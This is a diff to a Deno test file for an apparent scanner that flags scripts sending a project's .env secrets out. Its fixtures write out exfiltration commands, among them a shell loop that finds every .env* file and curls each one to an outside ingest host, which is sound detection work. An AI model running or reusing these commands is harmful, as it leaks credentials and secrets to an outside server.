@@ -214,11 +214,15 @@ Deno.test("a script's own functions carry flows: a parameter that reaches a send
   );
 });
 
-Deno.test("a project's .env read through a joined path and sent is critical, in Python and shell; its .example copy is no secret", () => {
+Deno.test("a project's .env read through a joined path or found by a glob and sent is critical, in Python and shell; its .example copy is no secret", () => {
   assert.ok(secretPath(".env"));
   assert.ok(secretPath("/srv/app/.env.production"));
   assert.equal(secretPath(".env.example"), undefined);
   assert.equal(secretPath("config/.envrc"), undefined);
+  // A glob that reaches one is a secret too; one that reaches only templates, or any file, is not.
+  assert.ok(secretPath("**/.env*"));
+  assert.equal(secretPath(".env.example*"), undefined);
+  assert.equal(secretPath("**/*"), undefined);
   // The path is assembled: no line holds a read and ".env" together.
   const python = [
     "import os, urllib.request",
@@ -233,11 +237,20 @@ Deno.test("a project's .env read through a joined path and sent is critical, in 
     'f="$PWD/.env"',
     'curl -s --data-binary @"$f" https://ingest.cfgmirror.io/s',
   ];
+  const found = [
+    "#!/bin/bash",
+    'for f in $(find . -name ".env*"); do curl -s -F "f=@$f" https://ingest.cfgmirror.io/f; done',
+  ];
   const flows = ruleAt(
-    findings({ "scripts/sync.py": python.join("\n"), "scripts/sync.sh": shell.join("\n") }),
+    findings({
+      "scripts/sync.py": python.join("\n"),
+      "scripts/sync.sh": shell.join("\n"),
+      "scripts/found.sh": found.join("\n"),
+    }),
     "secret-flow",
   );
-  assert.deepEqual(flows.map((f) => `${f.file}:${f.line} ${f.severity}`), [
+  assert.deepEqual(flows.map((f) => `${f.file}:${f.line} ${f.severity}`).sort(), [
+    "scripts/found.sh:2 critical",
     "scripts/sync.py:6 critical",
     "scripts/sync.sh:3 critical",
   ]);
